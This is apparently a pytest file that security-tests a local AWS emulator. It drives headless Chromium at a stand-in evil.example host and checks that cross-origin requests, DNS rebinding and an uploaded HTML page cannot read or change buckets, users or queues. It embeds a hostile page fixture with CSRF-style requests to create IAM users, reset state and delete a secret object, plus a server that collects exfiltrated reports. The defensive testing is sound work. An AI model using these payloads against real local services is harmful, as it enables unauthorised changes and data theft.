"""A real browser gets nothing: not from another origin, not by rebinding a name, not by a page in a bucket."""

from __future__ import annotations

import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from localmaker.daemon import EndpointHandle, running_endpoint

CHROMIUM = next(
    (found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name))), ""
)
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-popup-blocking",
    "--disable-dev-shm-usage", "--host-resolver-rules=MAP evil.example 127.0.0.1",
)  # fmt: skip
SIGNED = "AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/sqs/aws4_request, SignedHeaders=host, Signature=00"
PAGE = (Path(__file__).parent / "attack.html").read_bytes()
UPLOADED = """<title>uploaded</title><p id="text">shown</p>
<meta http-equiv="refresh" content="0; url=/?Action=CreateUser&UserName=m">
<img src="/?Action=CreateUser&Version=2010-05-08&UserName=byupload"><iframe src="/_local/health"></iframe>
<form method="post" action="/moto-api/reset"><button autofocus>x</button></form><script>
document.title = "script-ran";
for (const method of ["PUT", "DELETE"]) fetch("/secrets/secret.txt", {method});
fetch("/moto-api/reset", {method: "POST"}); document.forms[0].submit();
</script>"""

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed (Debian: apt-get install chromium)")


class Attacker(ThreadingHTTPServer):
    """Serves the page, and takes its reports from every origin.

    Attributes:
        reports: path and body of each.
        go: whether the page may begin.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.reports: queue.Queue[tuple[str, bytes]] = queue.Queue()
        self.go = False


class _Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        answers = {"/attack": PAGE, "/go": b"go" if self.server.go else b"wait"}
        self._answer(answers.get(self.path.partition("?")[0], b""))

    def do_POST(self) -> None:
        self.server.reports.put((self.path, self.rfile.read(int(self.headers.get("Content-Length", 0)))))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


@contextmanager
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@contextmanager
def browsing(profile: Path, url: str) -> Iterator[None]:
    process = subprocess.Popen(
        [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", "--remote-debugging-port=0", url], stderr=subprocess.DEVNULL
    )
    try:
        yield
    finally:
        process.terminate()
        process.wait()


def fill(endpoint: EndpointHandle) -> None:
    s3 = endpoint.client("s3")
    s3.create_bucket(Bucket="secrets")
    for key, body, kind in [
        ("secret.txt", "top-secret", "text/plain"),
        ("data.js", "window.stolen = 'top-secret'", "text/javascript"),
        ("pixel.svg", "<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>", "image/svg+xml"),
        ("uploaded.html", UPLOADED, "text/html"),
    ]:
        s3.put_object(Bucket="secrets", Key=key, Body=body.encode(), ContentType=kind, ACL="public-read-write")


def contents(endpoint: EndpointHandle) -> Any:
    s3 = endpoint.client("s3")
    objects = [(one["Key"], one["ETag"]) for one in s3.list_objects_v2(Bucket="secrets")["Contents"]]
    users, queues = endpoint.client("iam").list_users()["Users"], endpoint.client("sqs").list_queues().get("QueueUrls")
    return [one["Name"] for one in s3.list_buckets()["Buckets"]], objects, users, queues


def test_a_page_gets_nothing_from_another_origin_nor_by_rebinding(tmp_path: Path) -> None:
    with ExitStack() as stack:
        elsewhere = stack.enter_context(attacker())
        back = f"http://evil.example:{elsewhere.server_port}"
        with attacker() as before:
            port = before.server_port
            asked = urlencode({"reports": back, "port": port, "signed": SIGNED})
            stack.enter_context(browsing(tmp_path / "profile", f"http://evil.example:{port}/attack?{asked}"))
            assert elsewhere.reports.get(timeout=60)[0] == "/loaded"
        # The name of the page now leads to the endpoint: what a browser sees when a name is rebound.
        endpoint = stack.enter_context(running_endpoint(tmp_path / "state", port))
        fill(endpoint)
        untouched = contents(endpoint)
        elsewhere.go = True
        path, report = elsewhere.reports.get(timeout=120)
        assert contents(endpoint) == untouched
    assert path == "/report"
    got = dict(json.loads(report))
    assert len(got) == 15 * 4
    assert not [name for name, text in got.items() if "top-secret" in text or "was-" in text or "123456789012" in text]
    # Under its own name the page reads what it is told.
    assert "does not serve the host name" in got[f"http://evil.example:{port} fetch"]
    assert got[f"http://127.0.0.1:{port} fetch"] == "refused: TypeError"


def test_an_uploaded_page_drives_nothing(endpoint: EndpointHandle, tmp_path: Path) -> None:
    fill(endpoint)
    untouched = contents(endpoint)
    url = f"{endpoint.url}/secrets/uploaded.html"
    command = [CHROMIUM, *FLAGS, f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000"]
    shown = subprocess.run([*command, "--dump-dom", url], capture_output=True, text=True, check=True, timeout=120)
    assert contents(endpoint) == untouched
    assert '<p id="text">shown</p>' in shown.stdout
    assert "<title>uploaded</title>" in shown.stdout
